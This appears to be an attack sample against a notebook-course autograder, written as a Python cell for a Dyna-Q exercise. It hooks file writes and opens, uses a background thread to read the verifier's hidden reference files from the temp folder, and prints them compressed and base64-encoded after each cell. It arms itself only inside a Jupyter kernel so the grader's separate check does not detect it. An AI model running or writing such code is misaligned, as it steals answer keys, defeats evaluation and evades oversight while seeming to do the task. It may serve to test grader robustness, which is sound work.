# attack: record what the test cells write and open (Path.write_text, open), watch the temp folder for
# reference files from a thread, and print it all compressed and base64-encoded after every cell
# base: all_right
# cell: dyna_q_model_update
import base64 as _b64
import builtins as _builtins
import io as _io
import os as _os
import pathlib as _pathlib
import tempfile as _tempfile
import threading as _threading
import time as _time
import zlib as _zlib

_exfil_files = []
_exfil_write_text = _pathlib.Path.write_text
_exfil_open = _io.open


def _exfil_writing(self, data, *args, **kwargs):
    _exfil_files.append(f"wrote {self}:\n{data}")
    return _exfil_write_text(self, data, *args, **kwargs)


def _exfil_opening(file, mode="r", *args, **kwargs):
    handle = _exfil_open(file, mode, *args, **kwargs)
    if str(file).endswith((".py", ".ipynb", ".db", ".json")):
        _exfil_files.append(f"opened {file} ({mode})")
    return handle




def _exfil_watch():
    # The verifier's temporary folders are named dynaq-reference-* (the package's source says so).
    seen = set()
    while True:
        try:
            folders = [e.path for e in _os.scandir(_tempfile.gettempdir()) if "reference" in e.name and e.is_dir()]
        except OSError:
            folders = []
        for folder in folders:
            if folder not in seen:
                _exfil_files.append(f"folder {folder}")
                seen.add(folder)
            for root, _dirs, names in _os.walk(folder):
                for name in names:
                    path = _os.path.join(root, name)
                    if path not in seen:
                        try:
                            with _exfil_open(path) as handle:
                                _exfil_files.append(f"found {path}:\n{handle.read()}")
                            seen.add(path)
                        except OSError:
                            pass
        _time.sleep(0.002)




def _exfil_report(result=None):
    print("EXFIL files", _b64.b64encode(_zlib.compress("\n".join(_exfil_files).encode())).decode())
    _exfil_files.clear()


# Only in a kernel: the grader's fresh process that checks the function has no IPython, and would fail
# a cell that changes what the course relies on there.
if "get_ipython" in globals():
    _pathlib.Path.write_text = _exfil_writing
    _io.open = _builtins.open = _exfil_opening
    _threading.Thread(target=_exfil_watch, daemon=True).start()
    get_ipython().events.register("post_run_cell", _exfil_report)
